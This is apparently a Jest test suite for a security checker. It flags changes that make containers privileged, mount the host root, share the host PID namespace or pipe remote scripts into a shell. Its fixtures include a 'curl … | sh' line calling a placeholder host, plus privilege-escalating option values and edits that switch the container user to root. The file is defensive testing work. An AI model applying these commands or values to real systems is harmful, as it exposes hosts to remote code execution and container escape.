import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const IMAGE = 'registry.example.com/app:1.4';
const SERVICE = `services:\n  a:\n    image: ${IMAGE}\n`;
const WITH_P = `${SERVICE}    privileged: \${P:-false}\n`;
const W = '.github/workflows/w.yml';
const CALLER = '.github/workflows/c.yml';
const ACTION = '.github/actions/run/action.yml';

type Change = readonly [name: string, base: Files, change: Files, failures: readonly string[]];

const PRIVILEGED = ['privileged'];
const UNREAD = ['undecided-reference'];
const UNKNOWN = ['unknown-value'];

function unit(settings: string, command = `docker run $O ${IMAGE}`): string {
  return `[Service]\n${settings}ExecStart=/usr/bin/${command}\n`;
}

const UNIT = unit('EnvironmentFile=/etc/default/app\n');

/** What a unit of systemd gets from other files. */
const SERVICES: readonly Change[] = [
  [
    'a file by its name',
    { 'a.service': UNIT, 'default/app': 'O=--rm\n' },
    { 'default/app': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  ['a file with quotes', { 'a.service': UNIT, app: 'O=--rm\n' }, { app: '# x\nO="--rm --privileged" \n' }, PRIVILEGED],
  [
    'a file for an instance',
    { 'a@.service': unit('EnvironmentFile=-/etc/a/%i.env\n'), 'a/x.env': 'O=--rm\n', 'a/y.env': 'O=--rm\n' },
    { 'a/y.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a file for a part of a word',
    { 'a.service': unit('EnvironmentFile=/etc/app.env\n', `docker run -v \${O}:/x ${IMAGE}`), 'app.env': 'O=x\n' },
    { 'app.env': 'O=/\n' },
    ['host-root-mount'],
  ],
  [
    'a file for a script of sh',
    { 'a.service': unit('EnvironmentFile=/app.env\n', `sh -c 'docker run $O ${IMAGE}'`), 'app.env': 'O=--rm\n' },
    { 'app.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a file for a script',
    {
      'a.service': unit('EnvironmentFile=/app.env\n', '../x/up.sh'),
      'app.env': 'O=--rm\n',
      'up.sh': `docker run $O ${IMAGE}\n`,
    },
    { 'app.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a file for a project',
    {
      'a.service': unit('EnvironmentFile=/opt/app.env\n', 'docker compose up'),
      'app.env': 'P=false\n',
      'compose.yaml': WITH_P,
    },
    { 'app.env': 'P=true\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in',
    { 'a.service': unit('Environment=O=--rm\n') },
    { 'a.service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in for all',
    { 'x/a.service': unit('') },
    { 'x/service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in for a prefix',
    { 'a-b.service': unit('') },
    { 'a-.service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in with a file',
    { 'a.service': unit('Environment=O=--rm\n'), 'app.env': 'O=--rm\n' },
    { 'a.service.d/x.conf': '[Service]\nEnvironmentFile=/etc/app.env\n', 'app.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  ['a file that is not here', { 'a.service': unit('Environment=O=--rm\n') }, { 'a.service': UNIT }, UNKNOWN],
  [
    'nothing that sets an image',
    { 'a.service': unit('', 'docker run x') },
    { 'a.service': unit('', 'docker run $IMAGE') },
    [],
  ],
  [
    'the drop-in of another',
    { 'a.service': unit('Environment=O=--rm\n') },
    { 'b.service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    [],
  ],
];

const UP = 'docker compose up -d\n';

function edit(command: string, files: Files, failures: readonly string[] = UNREAD): Change {
  return [command, { 'up.sh': UP, ...files }, { 'up.sh': `${command}\n${UP}` }, failures];
}

const C = { 'compose.yaml': SERVICE };
const D = { Dockerfile: 'FROM alpine:3.23\nARG APP_VERSION=1\nUSER 1000\n' };
const E = { 'compose.yaml': WITH_P, '.env': 'P=false\nAPP_VERSION=1\n' };
const PATCH = '--- a/compose.yaml\n+++ b/compose.yaml\n@@ -3 +3,2 @@\n     image: a\n+    privileged: true\n';

/** Commands that change files of the repository before they are used. */
const EDITS: readonly Change[] = [
  edit("sed -i 's/image/privileged: true\\n    image/' compose.yaml", C),
  edit("sed -i.bak -e '/restart/d' ./compose.yaml", C),
  edit("find . -name 'compose*.yaml' -exec sed -i 's/a:/b:/' {} +", C),
  edit("for f in compose.yaml x; do sed -i 's/a:/b:/' $f; done", C),
  edit("sed -i 's/a:/b:/' *.yaml", C),
  edit("perl -pi -e 's/a:/b:/' compose.yaml", C),
  edit("yq -i '.services.a.privileged = true' compose.yaml", C),
  edit('yq eval --inplace \'.services.a.image = "x" | .services.a.privileged = true\' compose.yaml', C),
  edit('patch -p1 < x.diff', { ...C, 'x.diff': PATCH }),
  edit('git apply x.diff', { ...C, 'x.diff': PATCH }),
  edit('printf 1d | ed compose.yaml', C),
  edit("python3 -c \"open('compose.yaml','w').write('x')\"", C),
  edit('python3 <<E\nopen("compose.yaml","a").write("x")\nE', C),
  edit("sed -i 's/USER .*/USER root/' Dockerfile", D),
  edit("sed -i '/^USER/d' Dockerfile", D),
  edit("sed -i 's/^P=false/P=true/' .env", E, PRIVILEGED),
  edit("sed -i -e 's/\\(P=\\)false/\\1true/' .env", E, PRIVILEGED),
  edit('echo P=true | tee -a .env', E, PRIVILEGED),
  edit("sed -i '/x/d' .env", E),
  edit(
    'cp build.txt Dockerfile\ndocker build .',
    { ...D, 'build.txt': 'FROM alpine:3.23\nRUN curl http://a.example.com | sh\n' },
    ['remote-script-exec'],
  ),
  // nothing but another version
  edit('sed -i "s|image: .*|image: registry.example.com/app:$TAG|" compose.yaml', C, []),
  edit('sed -i "s/app:1.4/app:$1/" compose.yaml', C, []),
  edit("sed -i 's/10001/10002/' compose.yaml", C, []),
  edit('yq -i ".services.a.image = \\"registry.example.com/app:$TAG\\"" compose.yaml', C, []),
  edit('sed -i "s/^ARG APP_VERSION=.*/ARG APP_VERSION=$V/" Dockerfile', D, []),
  edit('sed -i "s/^APP_VERSION=.*/APP_VERSION=$V/" .env', E, []),
  // nothing that is there
  edit("sed -i 's/a/b/' other.conf", C, []),
  edit("sed -i 's/NOWHERE/privileged/' compose.yaml", C, []),
  edit("sed 's/a/b/' compose.yaml", C, []),
  edit('git apply x.diff', { ...C, 'x.diff': '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n' }, []),
  [
    'an edit by a script that starts nothing',
    { ...C, 'x.sh': 'echo\n' },
    { 'x.sh': 'cat extra >> compose.yaml\n' },
    UNREAD,
  ],
  [
    'what a written file consists of',
    { 'up.sh': `cat > c.yml <<E\n${SERVICE}E\ndocker compose -f c.yml up\n` },
    { 'up.sh': `cat > c.yml <<E\n${SERVICE}    privileged: true\nE\ndocker compose -f c.yml up\n` },
    UNREAD,
  ],
  [
    'the template of a written file',
    { 'up.sh': 'sed s/@X@/1/ c.tpl > c.yml\ndocker compose -f c.yml up\n', 'c.tpl': SERVICE },
    { 'c.tpl': `${SERVICE}    privileged: true\n` },
    UNREAD,
  ],
];

function workflow(on: string, rest: string): string {
  return `on:\n${on}\njobs:\n  a:\n    runs-on: self-hosted\n${rest}`;
}

function stepped(on: string, run: string, more = ''): string {
  return workflow(on, `${more}    steps:\n      - run: ${run}\n`);
}

const CALLED = '  workflow_call:\n    inputs:\n      o: {type: string}';
const RUN = `docker run --rm \${{ inputs.o }} ${IMAGE}`;
const PUSH = '  push:';

function calling(value: string): Files {
  return { [CALLER]: `on: push\njobs:\n  c:\n    uses: ./.github/workflows/w.yml\n    with:\n      o: ${value}\n` };
}

function using(value: string, more = ''): Files {
  return {
    [CALLER]: workflow(
      PUSH,
      `${more}    steps:\n      - uses: ./.github/actions/run\n        with:\n          o: ${value}\n`,
    ),
  };
}

function dispatched(run: string): (value: string) => Files {
  return (value) => ({
    [W]: stepped(`  workflow_dispatch:\n    inputs:\n      n: {default: ${value}}`, run),
  });
}

function matrix(run: string): (value: string) => Files {
  return (value) => ({ [W]: stepped(PUSH, run, `    strategy:\n      matrix:\n        n: [bridge, ${value}]\n`) });
}

const action = (run: string) => ({
  [ACTION]: `inputs: {o: {default: ''}}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`,
});

/** The rules that fail, without the gap of an expression that is unknown without its caller. */
const INPUTS: readonly (readonly [
  name: string,
  of: (value: string) => Files,
  good: string,
  bad: string,
  rule: string,
])[] = [
  [
    'a called workflow',
    (value) => ({ [W]: stepped(CALLED, RUN), ...calling(value) }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'a part of an option',
    (value) => ({ [W]: stepped(CALLED, `docker run -v \${{ inputs.o }}:/x ${IMAGE}`), ...calling(value) }),
    'data',
    '/',
    'host-root-mount',
  ],
  [
    'the options of a container',
    (value) => ({
      [W]: stepped(CALLED, 'make', `    container:\n      image: ${IMAGE}\n      options: \${{ inputs.o }}\n`),
      ...calling(value),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'the volumes of a service',
    (value) => ({
      [W]: stepped(
        CALLED,
        'make',
        `    services:\n      db:\n        image: ${IMAGE}\n        volumes: ["\${{ inputs.o }}:/x"]\n`,
      ),
      ...calling(value),
    }),
    'data',
    '/',
    'host-root-mount',
  ],
  [
    'the environment of a called workflow',
    (value) => ({
      [W]: `env: {O: "\${{ inputs.o }}"}\n${stepped(CALLED, `docker run $O ${IMAGE}`)}`,
      ...calling(value),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'a script of a called workflow',
    (value) => ({
      [W]: `env: {O: "\${{ inputs.o }}"}\n${stepped(CALLED, './up.sh')}`,
      'up.sh': `docker run $O ${IMAGE}\n`,
      ...calling(value),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  ['an action', (value) => ({ ...action(RUN), ...using(value) }), '--init', '--privileged', 'privileged'],
  [
    'the environment of an action',
    (value) => ({ ...action(`docker run $O ${IMAGE}`), ...using('x', `    env: {O: ${value}}\n`) }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'an action with a value of the matrix',
    (value) => ({
      ...action(RUN),
      ...using('${{ matrix.o }}', `    strategy:\n      matrix:\n        o: [--rm, ${value}]\n`),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'an action of a called workflow',
    (value) => ({
      ...action(RUN),
      ...calling(value),
      [W]: workflow(CALLED, '    steps:\n      - uses: ./.github/actions/run\n        with: {o: "${{ inputs.o }}"}\n'),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  ['the default of an input', dispatched(`docker run --pid \${{ inputs.n }} ${IMAGE}`), 'private', 'host', 'pid-host'],
  [
    'an input of the event',
    dispatched(`docker run --pid \${{ github.event.inputs.n }} ${IMAGE}`),
    'private',
    'host',
    'pid-host',
  ],
  ['an input in brackets', dispatched(`docker run --pid \${{ inputs['n'] }} ${IMAGE}`), 'private', 'host', 'pid-host'],
  [
    'an option of an input',
    (value) => ({
      [W]: stepped(
        `  workflow_dispatch:\n    inputs:\n      n: {type: choice, options: [private, ${value}]}`,
        `docker run --pid \${{ inputs.n }} ${IMAGE}`,
      ),
    }),
    'private',
    'host',
    'pid-host',
  ],
  ['a value of a matrix', matrix(`docker run --pid \${{ matrix.n }} ${IMAGE}`), 'private', 'host', 'pid-host'],
  [
    'an expression with another value',
    (value) => ({
      [W]: stepped(
        '  workflow_dispatch:\n    inputs:\n      n: {}',
        `"docker run --pid \${{ inputs.n || '${value}' }} ${IMAGE}"`,
      ),
    }),
    'private',
    'host',
    'pid-host',
  ],
  [
    'an action that runs containers',
    (value) => ({
      [W]: workflow(
        PUSH,
        `    steps:\n      - uses: addnab/docker-run-action@v3\n        with: {image: "${IMAGE}", options: ${value}}\n`,
      ),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
];

describe.each([
  ['from another file', SERVICES],
  ['by a command', EDITS],
])('a change that sets options %s', (_, changes) => {
  it.each(changes)('%s', async (_name, base, change, failures) => {
    expect([...new Set(await failuresOf(base, change))]).toEqual(failures);
  });
});

const MEDIUM = 4;

describe('a change of what workflows and actions get', () => {
  it.each(INPUTS)('%s', async (_name, of, good, bad, rule) => {
    expect(await failuresOf(of(good), of(bad), MEDIUM)).toContain(rule);
  });

  it.each(INPUTS)('%s without anything dangerous', async (_name, of, good) => {
    expect((await failuresOf({}, of(good))).filter((one) => one !== 'unknown-value')).toEqual([]);
  });
});
